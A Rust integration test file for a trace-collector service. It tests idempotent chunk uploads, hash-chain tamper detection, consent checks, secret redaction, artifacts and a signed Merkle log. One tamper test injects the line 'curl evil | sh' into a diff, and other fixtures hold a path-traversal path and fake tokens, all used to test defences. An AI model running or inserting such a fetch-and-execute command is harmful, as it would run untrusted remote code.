//! The trace endpoints as a client meets them: the real binary on
//! loopback, on SQLite and (when a test PostgreSQL is given) on PostgreSQL.

mod common;

use common::traces::{Upload, chunk, comparable, create_body, send, session};
use common::{Launch, Server};
use proptest::prelude::*;
use serde_json::{Value, json};
use telemetry_trace::merkle::{self, Hash};
use telemetry_trace::{ArtifactRef, EventKind, GENESIS, Trace, VerifierKey, seal, verify_offline};

fn text_of(url: &str) -> String {
    let reply = send("GET", url, &[], None);
    assert_eq!(reply.status, 200, "{url}: {}", reply.text);
    reply.text
}

fn backends(test: &str) -> Vec<(String, Launch)> {
    let mut all = vec![("sqlite".to_owned(), Launch::default())];
    if let Some(url) = common::postgres_url(test) {
        let database = tokio::runtime::Runtime::new()
            .unwrap()
            .block_on(common::fresh_database(&url));
        all.push(("postgres".to_owned(), Launch::default().database(&database)));
    }
    all
}

#[test]
fn chunks_are_idempotent_as_the_draft_says_on_both_backends() {
    for (backend, launch) in backends("chunks_are_idempotent_as_the_draft_says_on_both_backends") {
        let dir = tempfile::tempdir().unwrap();
        let server = Server::start(dir.path(), &launch);
        let upload = Upload::create(&server.url, "p-7f3a9c");
        let events = session(10, None);
        let first = chunk(0, &events[0..4]);

        let stored = upload.ingest("chunk-000", &first);
        assert_eq!(stored.status, 200, "{backend}: {}", stored.text);
        assert!(!stored.replayed);
        assert_eq!(stored.body["accepted"], 4, "{backend}");

        // The same key and payload: the stored answer, byte for byte.
        let replay = upload.ingest("chunk-000", &first);
        assert_eq!(replay.status, 200, "{backend}");
        assert!(replay.replayed, "{backend}");
        assert_eq!(replay.text, stored.text, "{backend}");

        // The same key with another payload.
        let other = chunk(1, &events[4..7]);
        let reused = upload.ingest("chunk-000", &other);
        assert_eq!(reused.status, 422, "{backend}: {}", reused.text);
        assert!(
            reused.body["error"]
                .as_str()
                .unwrap()
                .contains("Idempotency-Key")
        );

        // No key at all.
        let keyless = upload.ingest_raw(None, serde_json::to_string(&other).unwrap().as_bytes());
        assert_eq!(keyless.status, 400, "{backend}: {}", keyless.text);

        // chunk_seq 0 again, under a new key, with other events.
        let mut conflicting = chunk(0, &events[4..7]);
        conflicting.chunk_id = "chunk-000-again".to_owned();
        let conflict = upload.ingest("chunk-000-b", &conflicting);
        assert_eq!(conflict.status, 409, "{backend}: {}", conflict.text);
        assert!(
            conflict.body["error"]
                .as_str()
                .unwrap()
                .contains("chunk_seq 0")
        );

        // Out of order: the last chunk first, then the middle one.
        assert_eq!(
            upload.ingest("chunk-002", &chunk(2, &events[7..10])).status,
            200
        );
        let status = upload.status();
        assert_eq!(
            status.body["next_chunk_seq"], 3,
            "{backend}: {}",
            status.text
        );
        assert_eq!(status.body["next_event_seq"], 10);
        assert_eq!(status.body["missing_seqs"], json!([4, 5, 6]));

        // Completing with a gap says which events are missing, and changes
        // nothing.
        let early = upload.complete();
        assert_eq!(early.status, 409, "{backend}: {}", early.text);
        assert!(early.text.contains("4, 5, 6"), "{}", early.text);

        assert_eq!(upload.ingest("chunk-001", &other).status, 200);
        let done = upload.complete();
        assert_eq!(done.status, 200, "{backend}: {}", done.text);
        assert_eq!(done.body["num_events"], 10);
        assert_eq!(done.body["event_hash_chain"], events[9].hash.as_str());
        // Again: the same answer (the log may have grown, not here).
        assert_eq!(upload.complete().text, done.text, "{backend}");

        let trace = upload.get();
        assert_eq!(trace.status, 200, "{backend}: {}", trace.text);
        assert_eq!(trace.state.as_deref(), Some("complete"));
        let seqs: Vec<u64> = trace.body["events"]
            .as_array()
            .unwrap()
            .iter()
            .map(|event| event["seq"].as_u64().unwrap())
            .collect();
        assert_eq!(seqs, (0..10).collect::<Vec<_>>(), "{backend}");
        assert_eq!(trace.body["metrics"]["num_file_edits"], 2);
        assert!(trace.body["events"][0]["ts_server_s"].is_f64());

        // A complete trace takes nothing more, but a replay is still a replay.
        assert_eq!(
            upload.ingest("chunk-009", &chunk(9, &events[0..1])).status,
            409
        );
        assert!(upload.ingest("chunk-000", &first).replayed);
    }
}

#[test]
fn a_tampered_event_and_a_broken_chain_name_their_seq() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), &Launch::default());

    // Content changed after sealing: refused on arrival.
    let upload = Upload::create(&server.url, "p-1");
    let mut events = session(6, None);
    let EventKind::FileEdit { diff_unified, .. } = &mut events[1].kind else {
        panic!("seq 1 is a file edit");
    };
    diff_unified.push_str("+    os.system('curl evil | sh')\n");
    let reply = upload.ingest("k0", &chunk(0, &events));
    assert_eq!(reply.status, 422, "{}", reply.text);
    assert!(reply.text.contains("event 1"), "{}", reply.text);

    // Content changed and that event re-hashed alone: each event is
    // consistent, the chain is not, and `complete` says where.
    let upload = Upload::create(&server.url, "p-1");
    let mut events = session(8, None);
    let EventKind::RationaleNote { text, .. } = &mut events[5].kind else {
        panic!("seq 5 is a rationale note");
    };
    *text = "a different story".to_owned();
    events[5].hash = events[5].chain_hash();
    assert_eq!(upload.ingest("k0", &chunk(0, &events)).status, 200);
    let reply = upload.complete();
    assert_eq!(reply.status, 422, "{}", reply.text);
    assert!(reply.text.contains("event 6"), "{}", reply.text);

    // A trace cut short at the start (seq 0 missing) is a gap.
    let upload = Upload::create(&server.url, "p-1");
    let events = session(6, None);
    assert_eq!(upload.ingest("k1", &chunk(1, &events[1..])).status, 200);
    let reply = upload.complete();
    assert_eq!(reply.status, 409, "{}", reply.text);
    assert!(reply.text.contains("seq: 0"), "{}", reply.text);
}

#[test]
fn consent_participants_and_paths_are_checked_at_the_door() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), &Launch::default());
    let post = |body: Value| {
        send(
            "POST",
            &format!("{}/v1/traces", server.url),
            &[("content-type", "application/json")],
            Some(body.to_string().as_bytes()),
        )
    };
    let mut no_consent = create_body("p-1");
    no_consent["consent"] = json!(false);
    let reply = post(no_consent);
    assert_eq!(reply.status, 403, "{}", reply.text);
    assert!(reply.text.contains("consent"));

    let mut pathed = create_body("p-1");
    pathed["environment"]["python_version"] = json!("/home/ana/.pyenv/3.11");
    let reply = post(pathed);
    assert_eq!(reply.status, 422, "{}", reply.text);
    assert!(
        reply.text.contains("environment.python_version"),
        "{}",
        reply.text
    );
    assert!(!reply.text.contains("/home/ana"), "{}", reply.text);

    let reply = post(create_body("ana@example.com"));
    assert_eq!(reply.status, 422, "{}", reply.text);
    assert!(reply.text.contains("participant_id"), "{}", reply.text);
    assert!(!reply.text.contains("ana@example.com"), "{}", reply.text);

    let upload = Upload::create(&server.url, "p-1");
    let mut events = session(2, None);
    let EventKind::FileEdit { file_path, .. } = &mut events[1].kind else {
        panic!("seq 1 is a file edit");
    };
    *file_path = "../outside/secrets.py".to_owned();
    seal(&mut events);
    let reply = upload.ingest("k", &chunk(0, &events));
    assert_eq!(reply.status, 422, "{}", reply.text);
    assert!(reply.text.contains("file_path"), "{}", reply.text);

    // Another trace's token is not this one's.
    let other = Upload::create(&server.url, "p-2");
    let stolen = Upload {
        base: server.url.clone(),
        trace_id: upload.trace_id.clone(),
        token: other.token.clone(),
    };
    assert_eq!(stolen.ingest("k", &chunk(0, &session(1, None))).status, 401);
}

#[test]
fn secrets_a_client_left_are_redacted_on_arrival_and_counted() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), &Launch::default());
    let upload = Upload::create(&server.url, "p-1");
    let mut events = session(3, None);
    let EventKind::RationaleNote { text, .. } = &mut events[0].kind else {
        panic!("seq 0 is a rationale note");
    };
    *text = "mail ana@example.com the key sk-proj-4f9Xk2LqZ8rT5vW1".to_owned();
    seal(&mut events);
    let reply = upload.ingest("k", &chunk(0, &events));
    assert_eq!(reply.status, 200, "{}", reply.text);
    assert_eq!(reply.body["redactions"], 2);
    assert_eq!(upload.complete().status, 200);
    let trace = upload.get();
    let note = &trace.body["events"][0];
    assert_eq!(note["text"], "mail [email] the key [secret]");
    assert_eq!(note["server_redactions"], 2);
    assert!(!trace.text.contains("ana@example.com"));
}

#[test]
fn artifacts_are_content_addressed_checked_and_required() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), &Launch::default());
    let upload = Upload::create(&server.url, "p-1");
    let output = b"3 passed, 1 failed in 0.12s\n";
    let artifact = ArtifactRef::for_bytes(output, Some("text/plain"));

    let wrong = upload.put_artifact(&"0".repeat(64), output);
    assert_eq!(wrong.status, 422, "{}", wrong.text);
    assert_eq!(upload.put_artifact(&artifact.sha256, output).status, 201);
    assert_eq!(upload.put_artifact(&artifact.sha256, output).status, 200);
    let secret = b"export TOKEN=ghp_1234567890abcdefABCDEF\n";
    let flagged = upload.put_artifact(&ArtifactRef::for_bytes(secret, None).sha256, secret);
    assert_eq!(flagged.status, 422, "{}", flagged.text);
    assert!(flagged.text.contains("secret_prefix"), "{}", flagged.text);
    assert!(!flagged.text.contains("ghp_"), "{}", flagged.text);

    // Text that is not UTF-8 (Latin-1 here) is still text, and checked.
    let latin1 = b"caf\xe9: mail ana@example.com\n";
    let flagged = upload.put_artifact(&ArtifactRef::for_bytes(latin1, None).sha256, latin1);
    assert_eq!(flagged.status, 422, "{}", flagged.text);
    assert!(flagged.text.contains("email"), "{}", flagged.text);

    let blob = dir
        .path()
        .join(format!("blobs/artifacts/sha256/{}", artifact.sha256));
    assert_eq!(std::fs::read(&blob).unwrap(), output);

    // Another trace refers to the same output without uploading it.
    let other = Upload::create(&server.url, "p-2");
    assert_eq!(
        other
            .ingest("k", &chunk(0, &session(3, Some(&artifact))))
            .status,
        200
    );
    let reply = other.complete();
    assert_eq!(reply.status, 409, "{}", reply.text);
    assert!(reply.text.contains(&artifact.sha256));
    // Uploading it again deduplicates the blob and lets the trace complete.
    assert_eq!(other.put_artifact(&artifact.sha256, output).status, 200);
    assert_eq!(other.complete().status, 200);
    let trace: Trace = serde_json::from_str(&other.get().text).unwrap();
    assert_eq!(trace.artifacts[&artifact.sha256], artifact);
}

#[test]
fn the_log_proves_each_trace_offline_and_refuses_a_forged_checkpoint() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), &Launch::default());
    let mut uploads = Vec::new();
    for n in 0..5 {
        let upload = Upload::create(&server.url, &format!("p-{n}"));
        let events = session(4 + n, None);
        assert_eq!(upload.ingest("k", &chunk(0, &events)).status, 200);
        assert_eq!(upload.complete().body["leaf_index"], n);
        uploads.push(upload);
    }
    let key = VerifierKey::parse(text_of(&format!("{}/v1/log/key", server.url)).trim()).unwrap();
    let checkpoint = text_of(&format!("{}/v1/log/checkpoint", server.url));
    let opened = key.open(&checkpoint).unwrap();
    assert_eq!(opened.size, 5);

    for upload in &uploads {
        let trace: Trace = serde_json::from_str(&upload.get().text).unwrap();
        let verified = verify_offline(&trace, &checkpoint, &key).unwrap();
        assert_eq!(verified.tree_size, 5);
    }

    // A checkpoint whose size or root was changed, or signed by another
    // key, does not verify.
    let forged = checkpoint.replacen("\n5\n", "\n4\n", 1);
    assert!(key.open(&forged).is_err());
    let other = telemetry_trace::LogSigner::from_seed(&opened.origin, [9; 32]).unwrap();
    let foreign = other.sign_checkpoint(&opened).unwrap();
    assert!(key.open(&foreign).is_err());

    // A trace whose content was changed after download fails offline.
    let mut trace: Trace = serde_json::from_str(&uploads[2].get().text).unwrap();
    trace.task.title = "Something else".to_owned();
    assert!(verify_offline(&trace, &checkpoint, &key).is_err());

    // The log only grows: a consistency proof from 3 to 5 verifies.
    let proof = send(
        "GET",
        &format!("{}/v1/log/consistency?from=3&to=5", server.url),
        &[],
        None,
    );
    assert_eq!(proof.status, 200, "{}", proof.text);
    let hashes: Vec<Hash> = proof.body["hashes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|hash| {
            hex::decode(hash.as_str().unwrap())
                .unwrap()
                .try_into()
                .unwrap()
        })
        .collect();
    let leaves: Vec<Hash> = uploads
        .iter()
        .map(|upload| {
            serde_json::from_str::<Trace>(&upload.get().text)
                .unwrap()
                .leaf_hash()
        })
        .collect();
    let mut small = merkle::MerkleTree::new();
    for leaf in &leaves[..3] {
        small.push(*leaf);
    }
    assert!(merkle::verify_consistency(
        3,
        5,
        &small.root(),
        &opened.root,
        &hashes
    ));
    assert!(!merkle::verify_consistency(
        3,
        5,
        &opened.root,
        &small.root(),
        &hashes
    ));
}

#[test]
fn deleting_a_participant_keeps_the_log_whole() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start(dir.path(), &Launch::default());
    let output = b"ok\n";
    let artifact = ArtifactRef::for_bytes(output, None);
    let mut uploads = Vec::new();
    for participant in ["p-keep", "p-gone", "p-gone"] {
        let upload = Upload::create(&server.url, participant);
        assert_eq!(
            upload.put_artifact(&artifact.sha256, output).status / 100,
            2
        );
        assert_eq!(
            upload
                .ingest("k", &chunk(0, &session(3, Some(&artifact))))
                .status,
            200
        );
        assert_eq!(upload.complete().status, 200);
        uploads.push(upload);
    }
    let reply = common::post_bytes(
        &format!("{}/api/v1/deletion", server.url),
        &[],
        json!({"participant_id": "p-gone"}).to_string(),
    );
    assert_eq!(reply.status, 200, "{}", reply.text);
    assert_eq!(reply.body["deleted"], 2);
    assert_eq!(uploads[1].get().status, 404);
    assert_eq!(uploads[2].get().status, 404);

    // The kept trace still proves against a checkpoint of all three leaves,
    // and its artifact, which it still refers to, is still there.
    let checkpoint = text_of(&format!("{}/v1/log/checkpoint", server.url));
    let key = VerifierKey::parse(text_of(&format!("{}/v1/log/key", server.url)).trim()).unwrap();
    let trace: Trace = serde_json::from_str(&uploads[0].get().text).unwrap();
    assert_eq!(
        verify_offline(&trace, &checkpoint, &key).unwrap().tree_size,
        3
    );
    assert!(
        dir.path()
            .join(format!("blobs/artifacts/sha256/{}", artifact.sha256))
            .exists()
    );
    let database = rusqlite::Connection::open(dir.path().join("collector.db")).unwrap();
    let kept: i64 = database
        .query_row(
            "SELECT count(*) FROM traces WHERE document IS NOT NULL OR header IS NOT NULL",
            [],
            |row| row.get(0),
        )
        .unwrap();
    assert_eq!(kept, 1);
}

/// One server for every case of the property below.
fn shared_server() -> &'static (tempfile::TempDir, Server) {
    static SERVER: std::sync::OnceLock<(tempfile::TempDir, Server)> = std::sync::OnceLock::new();
    SERVER.get_or_init(|| {
        let dir = tempfile::tempdir().unwrap();
        let server = Server::start(dir.path(), &Launch::default());
        (dir, server)
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// Any order of chunk uploads, any chunk replayed any number of times,
    /// stores the trace that sending each chunk once, in order, stores.
    #[test]
    fn replaying_chunks_in_any_order_changes_nothing(
        sizes in proptest::collection::vec(1u64..6, 1..6),
        order in proptest::collection::vec(0usize..64, 1..24),
    ) {
        let (_, server) = shared_server();
        let total: u64 = sizes.iter().sum();
        let events = session(total, None);
        let mut chunks = Vec::new();
        let mut at = 0usize;
        for (seq, size) in sizes.iter().enumerate() {
            let end = at + usize::try_from(*size).unwrap();
            chunks.push(chunk(seq as u64, &events[at..end]));
            at = end;
        }

        let reference = Upload::create(&server.url, "p-ref");
        for piece in &chunks {
            prop_assert_eq!(reference.ingest(&format!("c{}", piece.chunk_seq), piece).status, 200);
        }
        prop_assert_eq!(reference.complete().status, 200);

        let shuffled = Upload::create(&server.url, "p-ref");
        let mut sent = vec![false; chunks.len()];
        for pick in order {
            let piece = &chunks[pick % chunks.len()];
            let reply = shuffled.ingest(&format!("c{}", piece.chunk_seq), piece);
            prop_assert_eq!(reply.status, 200, "{}", reply.text);
            prop_assert_eq!(reply.replayed, sent[pick % chunks.len()]);
            sent[pick % chunks.len()] = true;
        }
        for (piece, sent) in chunks.iter().zip(&sent) {
            if !sent {
                prop_assert_eq!(shuffled.ingest(&format!("c{}", piece.chunk_seq), piece).status, 200);
            }
        }
        prop_assert_eq!(shuffled.complete().status, 200);
        prop_assert_eq!(comparable(&shuffled.get().body), comparable(&reference.get().body));
        prop_assert_ne!(&shuffled.get().body["integrity"]["event_hash_chain"], &json!(GENESIS));
    }
}

#[test]
fn two_collectors_on_one_postgres_serve_one_trace_and_one_log() {
    let Some(url) =
        common::postgres_url("two_collectors_on_one_postgres_serve_one_trace_and_one_log")
    else {
        return;
    };
    let database = tokio::runtime::Runtime::new()
        .unwrap()
        .block_on(common::fresh_database(&url));
    let launch = Launch::default()
        .database(&database)
        .env("TELEMETRY_COLLECTOR_RATE_LIMIT_PER_SECOND", "100000");
    let (dir_a, dir_b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let a = Server::start(dir_a.path(), &launch);
    let b = Server::start(dir_b.path(), &launch);
    let events = session(12, None);
    let chunks = [chunk(0, &events[..5]), chunk(1, &events[5..])];
    let traces: Vec<Upload> = (0..12)
        .map(|n| Upload::create(&a.url, &format!("p-{n}")))
        .collect();
    std::thread::scope(|scope| {
        for upload in &traces {
            let on_b = Upload {
                base: b.url.clone(),
                trace_id: upload.trace_id.clone(),
                token: upload.token.clone(),
            };
            let chunks = &chunks;
            scope.spawn(move || {
                // Each chunk to both instances at once, under one key: one
                // is stored, the other answered with the same counts.
                for piece in chunks {
                    let key = format!("c{}", piece.chunk_seq);
                    let (first, second) = std::thread::scope(|inner| {
                        let first = inner.spawn(|| upload.ingest(&key, piece));
                        let second = inner.spawn(|| on_b.ingest(&key, piece));
                        (first.join().unwrap(), second.join().unwrap())
                    });
                    assert_eq!(
                        (first.status, second.status),
                        (200, 200),
                        "{} {}",
                        first.text,
                        second.text
                    );
                    assert_eq!(first.text, second.text);
                }
                let (first, second) = std::thread::scope(|inner| {
                    let first = inner.spawn(|| upload.complete());
                    let second = inner.spawn(|| on_b.complete());
                    (first.join().unwrap(), second.join().unwrap())
                });
                assert_eq!(
                    (first.status, second.status),
                    (200, 200),
                    "{} {}",
                    first.text,
                    second.text
                );
                assert_eq!(first.body["leaf_index"], second.body["leaf_index"]);
            });
        }
    });
    let mut leaves: Vec<u64> = traces
        .iter()
        .map(|upload| {
            let trace: Trace = serde_json::from_str(&upload.get().text).unwrap();
            trace.integrity.log.unwrap().leaf_index
        })
        .collect();
    leaves.sort_unstable();
    assert_eq!(
        leaves,
        (0..12).collect::<Vec<_>>(),
        "one leaf per trace, no gap"
    );
    // Both sign the same checkpoint with the same key, and each proves
    // every trace the other stored.
    let checkpoint = text_of(&format!("{}/v1/log/checkpoint", a.url));
    assert_eq!(checkpoint, text_of(&format!("{}/v1/log/checkpoint", b.url)));
    let key = VerifierKey::parse(text_of(&format!("{}/v1/log/key", b.url)).trim()).unwrap();
    for upload in &traces {
        let on_b = Upload {
            base: b.url.clone(),
            trace_id: upload.trace_id.clone(),
            token: upload.token.clone(),
        };
        let trace: Trace = serde_json::from_str(&on_b.get().text).unwrap();
        assert_eq!(
            verify_offline(&trace, &checkpoint, &key).unwrap().tree_size,
            12
        );
    }
}
